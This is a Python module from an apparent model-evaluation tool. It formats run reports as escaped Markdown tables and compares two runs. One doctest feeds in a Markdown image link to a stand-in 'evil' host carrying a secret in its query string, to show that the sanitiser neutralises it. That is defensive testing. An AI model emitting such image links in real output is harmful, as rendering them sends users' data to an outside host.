"""The report of a run as a Markdown table, and two runs side by side (``--compare``).

Every cell is on one line with its bars escaped and its length capped, so no value can forge
rows of the table; the answer the model gave is also literal text (``untrusted.markdown_inline``:
no link, image or HTML of the model's reaches a Markdown viewer).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from pydantic import ValidationError

from ..errors import ConfigError
from ..ledger import money
from ..untrusted import markdown_inline
from .results import TaskResult


def _one_line(value: Any, limit: int) -> str:
    """A value as text on one line, at most ``limit`` characters."""
    if isinstance(value, list):
        value = ", ".join(" / ".join(map(str, v)) if isinstance(v, list) else str(v) for v in value)
    text = " ".join(str(value).split())
    return text[: limit - 1] + "…" if len(text) > limit else text


def cell(value: Any, limit: int = 60) -> str:
    """A value as one Markdown table cell: on one line, bars escaped, at most ``limit`` characters.

    >>> cell("a | b\\nc"), cell(None), cell(["x", 2]), cell("x" * 70, 10)
    ('a \\\\| b c', '—', 'x, 2', 'xxxxxxxxx…')
    """
    if value is None:
        return "—"
    return _one_line(value, limit).replace("\\", "\\\\").replace("|", "\\|").replace("`", "'")


def given(value: Any, limit: int = 60) -> str:
    r"""The model's answer as one cell of literal text.

    >>> given("![x](http://evil/?q=secret) | 2")
    '\\!\\[x\\]\\(http\\:\\/\\/evil\\/\\?q\\=secret\\) \\| 2'
    """
    return "—" if value is None else markdown_inline(_one_line(value, limit))


def markdown(report: dict[str, Any]) -> str:
    """The report as a Markdown table, one row per task, then the totals."""
    settings, totals = report["settings"], report["totals"]
    lines = [
        f"# Evaluation of `{cell(settings['model'])}` on `{cell(settings['suite'])}`", "",
        "| task | correct | given | gold | failure | calls | prompt tok | completion tok | steps run | reused | time s |",
        "|---|---|---|---|---|---:|---:|---:|---:|---:|---:|",
    ]
    for t in report["tasks"]:
        lines.append(
            f"| {cell(t['id'], 40)} | {'yes' if t['correct'] else 'no'} | {given(t['given'])} | {cell(t['gold'])} "
            f"| {cell(t['failure'])} | {t['model_calls']} | {t['prompt_tokens']} | {t['completion_tokens']} "
            f"| {t['steps_executed']} | {t['steps_reused']} | {t['time_s']:.2f} |"
        )
    failures = ", ".join(f"{k} {v}" for k, v in totals["failures"].items()) or "none"
    lines += [
        "", f"**{totals['correct']}/{totals['tasks']} correct** ({totals['accuracy']:.1%}); "
        f"{totals['model_calls']} model calls, {totals['prompt_tokens']} prompt and {totals['completion_tokens']} "
        f"completion tokens (counted by: {totals['tokens_counted_by']}), cost {money(totals.get('cost_usd'))}; "
        f"{totals['steps_executed']} steps run, {totals['steps_reused']} reused{_saved(totals.get('saved'))}; "
        f"{totals['time_s']:.1f} s of turns. Failures: {failures}.",
    ]
    return "\n".join(lines) + "\n"


def _saved(saved: dict[str, Any] | None) -> str:
    """What reuse saved, as the totals line says it (nothing before the ledger, or none reused)."""
    if not saved or not saved.get("steps"):
        return ""
    return (f" (saving {saved['prompt_tokens']} prompt and {saved['completion_tokens']} completion tokens, "
            f"{money(saved.get('cost_usd'))}, {saved['execution_s']:.1f} s of steps)")


def load_report(path: Path | str) -> dict[str, Any]:
    """A report written by ``eval -o``.

    Raises:
        ConfigError: it cannot be read or is not a report.
    """
    try:
        report = json.loads(Path(path).read_text(encoding="utf-8"))
    except (OSError, UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise ConfigError(f"the report {path} cannot be read: {exc}", reason="bad_report") from exc
    if not isinstance(report, dict) or not {"settings", "totals", "tasks"} <= report.keys():
        raise ConfigError(f"{path} is not an evaluation report (settings, totals, tasks)", reason="bad_report")
    try:
        for task in report["tasks"]:
            TaskResult.model_validate(task)
        totals = report["totals"]
        if not isinstance(totals, dict) or not isinstance(report["settings"], dict):
            raise TypeError("settings and totals are objects")
    except (ValidationError, TypeError) as exc:
        raise ConfigError(f"{path} is not an evaluation report: {exc}", reason="bad_report") from exc
    return report


def compare(a: dict[str, Any], b: dict[str, Any], names: tuple[str, str] = ("A", "B")) -> str:
    """Two runs side by side: the totals with their differences, then each task that
    either run has, with what changed (``fixed``, ``broken``, ``same``, or only in one)."""
    left, right = names
    ta, tb = a["totals"], b["totals"]
    lines = [f"# {cell(left)} vs {cell(right)}", "",
             f"{cell(left)}: `{cell(a['settings'].get('model'))}` on `{cell(a['settings'].get('suite'))}`; "
             f"{cell(right)}: `{cell(b['settings'].get('model'))}` on `{cell(b['settings'].get('suite'))}`", "",
             f"| total | {cell(left)} | {cell(right)} | difference |", "|---|---:|---:|---:|"]
    for key in ("correct", "tasks", "accuracy", "model_calls", "prompt_tokens", "completion_tokens", "cost_usd",
                "steps_executed", "steps_reused", "time_s"):
        x, y = ta.get(key, 0), tb.get(key, 0)
        if x is None or y is None:  # a run without a price has no cost to compare
            lines.append(f"| {key} | {money(x)} | {money(y)} | — |")
            continue
        lines.append(f"| {key} | {x} | {y} | {_signed(y - x)} |")
    by_a = {t["id"]: t for t in a["tasks"]}
    by_b = {t["id"]: t for t in b["tasks"]}
    ids = list(by_a) + [i for i in by_b if i not in by_a]
    lines += ["", f"| task | {cell(left)} | {cell(right)} | change | calls | time s |", "|---|---|---|---|---|---|"]
    counts: dict[str, int] = {}
    for task_id in ids:
        x, y = by_a.get(task_id), by_b.get(task_id)
        change = _change(x, y)
        counts[change] = counts.get(change, 0) + 1
        lines.append(f"| {cell(task_id, 40)} | {_outcome(x)} | {_outcome(y)} | {change} "
                     f"| {_pair(x, y, 'model_calls')} | {_pair(x, y, 'time_s')} |")
    lines += ["", "Changes: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items())) + "."]
    return "\n".join(lines) + "\n"


def _signed(value: float) -> str:
    return f"{value:+.4g}" if value else "0"


def _outcome(task: dict[str, Any] | None) -> str:
    if task is None:
        return "—"
    return "correct" if task["correct"] else f"wrong ({cell(task.get('failure'))})"


def _change(x: dict[str, Any] | None, y: dict[str, Any] | None) -> str:
    if x is None or y is None:
        return "only in A" if y is None else "only in B"
    if x["correct"] == y["correct"]:
        return "same"
    return "fixed" if y["correct"] else "broken"


def _pair(x: dict[str, Any] | None, y: dict[str, Any] | None, key: str) -> str:
    return f"{x[key] if x else '—'} → {y[key] if y else '—'}"
